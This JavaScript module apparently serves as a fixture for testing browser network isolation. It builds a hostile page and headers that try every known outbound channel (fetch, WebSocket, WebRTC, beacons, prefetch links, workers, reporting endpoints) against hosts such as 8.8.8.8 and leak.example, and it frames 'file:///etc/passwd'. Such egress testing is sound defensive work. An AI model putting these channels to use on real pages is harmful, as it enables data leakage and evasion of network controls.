// Every way out of a page that is known, tried at once. The addresses are never reached: the page runs
// where all of them are the machine itself, and a capture looks on.
const HOSTS = [
  '10.0.0.5',
  '127.0.0.1',
  '192.168.1.1',
  '8.8.8.8',
  '[2001:4860:4860::8888]',
  '[::1]',
  'leak.example',
];

const script = hosts => {
  const attempt = work => {
    try {
      Promise.resolve(work()).catch(() => {});
    } catch {}
  };
  const element = (name, attributes) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    document.body.append(made);
    return made;
  };
  const secure = location.protocol === 'https:';
  for (const host of hosts) {
    const http = `http://${host}:8081/`;
    const https = `https://${host}:8443/`;
    attempt(() => new WebSocket(`wss://${host}:8443/ws`));
    attempt(() => new WebSocket(`ws://${host}:8081/ws`));
    attempt(() => new WebTransport(`https://${host}:4433/wt`).ready);
    attempt(() => new EventSource(https));
    attempt(() => navigator.sendBeacon(https, 'x'));
    attempt(() => fetch(https, {mode: 'no-cors', keepalive: true}));
    attempt(() => fetch(http, {mode: 'no-cors'}));
    attempt(() => fetchLater(https, {activateAfter: 0}));
    for (const rel of [
      'prefetch',
      'preconnect',
      'dns-prefetch',
      'prerender',
      'preload',
      'modulepreload',
      'manifest',
      'icon',
      'compression-dictionary',
    ]) {
      element('link', {rel, href: https, as: 'script'});
      element('link', {rel, href: http, as: 'script'});
    }
    element('img', {src: https, attributionsrc: `${https}attribution`});
    element('iframe', {src: https});
    element('iframe', {
      sandbox: 'allow-scripts',
      srcdoc: `<script>fetch("${https}",{mode:"no-cors"});new WebSocket("wss://${host}:8443/");new WebTransport("https://${host}:4433/")</script>`,
    });
    element('video', {src: https});
    element('a', {href: '#x', ping: https}).click();
    element('a', {href: https, download: 'x'}).click();
    const form = element('form', {action: https, method: 'post', target: '_blank'});
    attempt(() => form.submit());
    attempt(() => window.open(https));
    attempt(() =>
      new PaymentRequest([{supportedMethods: https}], {
        total: {label: 'x', amount: {currency: 'EUR', value: '1'}},
      }).canMakePayment(),
    );
    attempt(() =>
      navigator.credentials.get({identity: {providers: [{configURL: `${https}fedcm.json`, clientId: 'x'}]}}),
    );
    attempt(() =>
      navigator.credentials.create({
        publicKey: {
          rp: {id: host, name: 'x'},
          user: {id: new Uint8Array(4), name: 'x', displayName: 'x'},
          challenge: new Uint8Array(16),
          pubKeyCredParams: [{type: 'public-key', alg: -7}],
        },
      }),
    );
    attempt(() => navigator.runAdAuction?.({}));
    attempt(() => window.sharedStorage?.worklet.addModule(https));
    const worker = `fetch("${https}",{mode:"no-cors"});new WebSocket("wss://${host}:8443/");try{new WebTransport("https://${host}:4433/")}catch{};importScripts("${https}")`;
    attempt(() => new Worker(URL.createObjectURL(new Blob([worker]))));
    attempt(() => new SharedWorker(`data:text/javascript,${encodeURIComponent(worker)}`));
  }
  const rules = element('script', {});
  rules.remove();
  const speculation = document.createElement('script');
  speculation.type = 'speculationrules';
  const urls = hosts
    .flatMap(host => [`https://${host}:8443/spec`, `http://${host}:8081/spec`])
    .concat('/same-origin');
  speculation.textContent = JSON.stringify({
    prefetch: [{source: 'list', urls, eagerness: 'immediate'}],
    prerender: [{source: 'list', urls, eagerness: 'immediate'}],
  });
  document.head.append(speculation);
  attempt(() => navigator.serviceWorker.register('/sw.js'));
  for (const src of [
    'data:text/html,<script>fetch("https://8.8.8.8:8443/")</script>',
    'file:///etc/passwd',
    'chrome://version',
    'view-source:https://8.8.8.8/',
    URL.createObjectURL(
      new Blob(['<script>new WebSocket("ws://8.8.8.8:8081/")</script>'], {type: 'text/html'}),
    ),
  ]) {
    element('iframe', {src});
  }
  const servers = hosts.flatMap(host => [
    {urls: [`stun:${host}:3478`, `stun:${host}:3478?transport=tcp`].slice(0, 1)},
    {
      urls: [
        `turn:${host}:3478?transport=udp`,
        `turn:${host}:3479?transport=tcp`,
        `turns:${host}:5349?transport=tcp`,
      ],
      username: 'u',
      credential: 'c',
    },
  ]);
  for (const iceServers of [servers, []]) {
    attempt(async () => {
      const one = new RTCPeerConnection({iceServers, iceCandidatePoolSize: 2});
      const two = new RTCPeerConnection({iceServers});
      one.onicecandidate = ({candidate}) => candidate && attempt(() => two.addIceCandidate(candidate));
      two.onicecandidate = ({candidate}) => candidate && attempt(() => one.addIceCandidate(candidate));
      one.createDataChannel('x');
      await one.setLocalDescription();
      await two.setRemoteDescription(one.localDescription);
      await two.setLocalDescription();
      await one.setRemoteDescription(two.localDescription);
      for (const host of hosts) {
        const address = host.replace(/[[\]]/g, '');
        for (const candidate of [
          `candidate:1 1 udp 2122260223 ${address} 5000 typ host`,
          `candidate:2 1 tcp 1518280447 ${address} 5001 typ host tcptype passive`,
          `candidate:3 1 ssltcp 1518280447 ${address} 443 typ host tcptype passive`,
        ]) {
          attempt(() => one.addIceCandidate({candidate, sdpMid: '0', sdpMLineIndex: 0}));
          attempt(() => two.addIceCandidate({candidate, sdpMid: '0', sdpMLineIndex: 0}));
        }
      }
    });
  }
  document.title = `tried from ${secure ? 'https' : 'http'}`;
};

export const HOSTILE_HEADERS = new Map([
  ['content-type', ['text/html']],
  ['link', [HOSTS.map(host => `<https://${host}:8443/>; rel=preconnect`).join(', ')]],
  ['speculation-rules', ['"https://8.8.8.8:8443/rules.json"']],
  ['reporting-endpoints', ['default="https://8.8.8.8:8443/reports", csp="https://10.0.0.5:8443/reports"']],
  ['report-to', ['{"group":"default","max_age":9,"endpoints":[{"url":"https://8.8.8.8:8443/r"}]}']],
  ['nel', ['{"report_to":"default","max_age":99,"success_fraction":1}']],
  ['content-security-policy', ["font-src 'none'; report-to csp; report-uri https://8.8.8.8:8443/csp"]],
  ['alt-svc', ['h3="10.0.0.5:443"']],
  ['accept-ch', ['Sec-CH-UA-Arch']],
  ['critical-ch', ['Sec-CH-UA-Arch']],
]);

/** The function as text that does not end the script element around it. */
const source = String(script).replaceAll('</script', '<\\/script');

export const HOSTILE_PAGE = `<!DOCTYPE html><title>before</title><body>
<style>@font-face{font-family:x;src:url(https://8.8.8.8:8443/f)}p{font-family:x}</style><p>text</p>
<script>addEventListener('load', () => (${source})(${JSON.stringify(HOSTS)}))</script>`;
